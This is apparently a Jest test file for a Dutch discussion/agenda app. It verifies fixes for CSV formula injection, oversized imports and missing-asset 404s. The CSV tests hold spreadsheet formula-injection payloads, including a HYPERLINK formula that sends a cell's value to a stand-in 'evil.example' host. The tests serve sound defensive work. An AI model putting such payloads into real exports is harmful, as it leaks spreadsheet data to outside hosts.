import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parseBoardsCsv } from '../../src/adapters/cli/boards-csv';
import { parseMembersCsv } from '../../src/adapters/cli/members-csv';
import { readCsvFile, type TextFile } from '../../src/adapters/cli/read-file';
import { agendaSchema } from '../../src/core/agenda/model';
import { csvField } from '../../src/core/discussion/report-formats';
import { loadAgendaFile } from '../../src/store/agenda-files';
import { type DashboardRig, startDashboardRig } from '../dashboard/rig';
import { discussionWorld, PO } from '../discussion/world';
import { pgliteDatabase, type TestDatabase } from '../support/databases';

const csvFile = (text: string): TextFile => ({ name: 'test.csv', text, encoding: 'utf-8' });

/** Findings 4, 8 and 9 of issue 11: formulas in exports, unbounded imports, a missing asset's 500. */

let t: TestDatabase;
beforeAll(async () => {
  t = await pgliteDatabase();
});
afterAll(() => t.close());

describe('finding 4: spreadsheet formulas in exports', () => {
  it('neutralises cells starting with =, +, -, @, tab or CR, and leaves numbers and other text alone', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"klik")')).toBe(
      '"\'=HYPERLINK(""https://evil.example/?""&A1,""klik"")"',
    );
    expect(['+1', '-2+3', '@SUM(A1)', '\tx', '\rx'].map(csvField)).toEqual([
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\tx",
      '"\'\rx"',
    ]);
    expect([-5, 40, 'Voorjaar', null].map(csvField)).toEqual(['-5', '40', 'Voorjaar', '']);
  });

  it('writes a cycle named =HYPERLINK(…) into report --format csv (and the dashboard export) as text', async () => {
    const { core, clock, coordinator } = await discussionWorld(t.db, '2027-03-02T09:00:00Z');
    const asCoordinator = { memberId: coordinator.id };
    const cycle = await core.planCycle(asCoordinator, {
      agendaId: PO,
      name: '=HYPERLINK("https://evil.example","Open")',
      scope: ['a1'],
      audience: { boards: [], members: [] },
      opensAt: new Date('2027-03-01T00:00:00Z'),
      closesAt: new Date('2027-03-26T23:00:00Z'),
    });
    await core.openCycle(asCoordinator, cycle.id);
    clock.set('2027-06-01T09:00:00Z');
    await core.closeCycle(asCoordinator, cycle.id);
    const csv = await core.renderReport(
      {
        agendaId: PO,
        year: 2027,
        from: new Date('2026-12-31T23:00:00Z'),
        to: new Date('2027-12-31T23:00:00Z'),
      },
      'csv',
    );
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example"",""Open"")",`);
    expect(csv).not.toMatch(/,"?=HYPERLINK/);
  });
});

describe('finding 8: no size limits on imported names', () => {
  const agenda = () =>
    ({
      id: 'groot',
      name: 'Een agenda',
      association: 'Vereniging',
      period: { from: 2026, to: 2030 },
      source: 'bron',
      themes: [{ id: 't1', kind: 'theme', title: 'Thema' }],
      ambitions: [{ id: 'a1', number: 1, theme: 't1', title: 'Ambitie', tag: 'ambitie', text: 'Tekst' }],
    }) as Record<string, unknown>;

  it('refuses agenda names, titles and texts beyond their maximum', () => {
    expect(agendaSchema.safeParse(agenda()).success).toBe(true);
    const long = (n: number) => 'x'.repeat(n);
    expect(agendaSchema.safeParse({ ...agenda(), name: long(201) }).success).toBe(false);
    expect(agendaSchema.safeParse({ ...agenda(), source: long(501) }).success).toBe(false);
    const themes = [{ id: 't1', kind: 'theme', title: long(121) }];
    expect(agendaSchema.safeParse({ ...agenda(), themes }).success).toBe(false);
  });

  it('refuses board and member names beyond 200 characters in the CSVs', () => {
    expect(() =>
      parseBoardsCsv(csvFile(`naam,bestuursnummer,regio\n${'B'.repeat(201)},41234,noord\n`), 'en'),
    ).toThrow(
      expect.objectContaining({
        code: 'BOARDS_CSV_INVALID',
        message: expect.stringContaining('at most 200 characters'),
      }),
    );
    expect(() =>
      parseMembersCsv(csvFile(`platform,workspace,user_id,name\nslack,T1,UANNA,${'N'.repeat(201)}\n`), 'en'),
    ).toThrow(expect.objectContaining({ code: 'MEMBERS_CSV_INVALID' }));
  });

  it('refuses an import file over the documented size before reading it', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'samenspraak-limits-'));
    try {
      const big = path.join(dir, 'groot.yaml');
      // A sparse file: its size is what counts, nothing of it is read.
      fs.closeSync(fs.openSync(big, 'w'));
      fs.truncateSync(big, 50 * 1024 * 1024);
      const read = jest.spyOn(fs, 'readFileSync');
      try {
        expect(() => loadAgendaFile(big)).toThrow(
          expect.objectContaining({ code: 'AGENDA_FILE_UNREADABLE' }),
        );
        expect(() => readCsvFile(big, { note: () => {}, locale: 'en' })).toThrow(
          expect.objectContaining({ key: 'cli.file.tooBig', params: { file: big, limit: 5 } }),
        );
        expect(read).not.toHaveBeenCalled();
      } finally {
        read.mockRestore();
      }
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('refuses a cycle name beyond 120 characters', async () => {
    await t.reset();
    {
      const { core, coordinator } = await discussionWorld(t.db, '2027-03-02T09:00:00Z');
      await expect(
        core.planCycle(
          { memberId: coordinator.id },
          {
            agendaId: PO,
            name: 'C'.repeat(121),
            scope: ['a1'],
            audience: { boards: [], members: [] },
            opensAt: new Date('2027-03-03T00:00:00Z'),
            closesAt: new Date('2027-03-26T23:00:00Z'),
          },
        ),
      ).rejects.toMatchObject({ code: 'INPUT_INVALID' });
      expect((await t.db.query('SELECT id FROM cycles')).rows).toHaveLength(0);
    }
  });
});

describe('finding 9: a missing dashboard asset', () => {
  let rig: DashboardRig;
  beforeAll(async () => {
    rig = await startDashboardRig();
  });
  afterAll(() => rig.close());

  it('answers 404 without logging a path', async () => {
    const logged = [jest.spyOn(rig.core.deps.logger, 'error'), jest.spyOn(rig.core.deps.logger, 'warn')];
    for (const asset of ['teams-js/geen-bestand.js', 'teams-js/sub/map.js', 'nergens.css']) {
      const res = await fetch(`${rig.base}/dashboard/assets/${asset}`);
      expect(res.status).toBe(404);
      expect(await res.text()).toBe('Not found');
    }
    for (const spy of logged) expect(spy).not.toHaveBeenCalled();
    expect((await fetch(`${rig.base}/dashboard/assets/teams-js/MicrosoftTeams.min.js`)).status).toBe(200);
  });
});
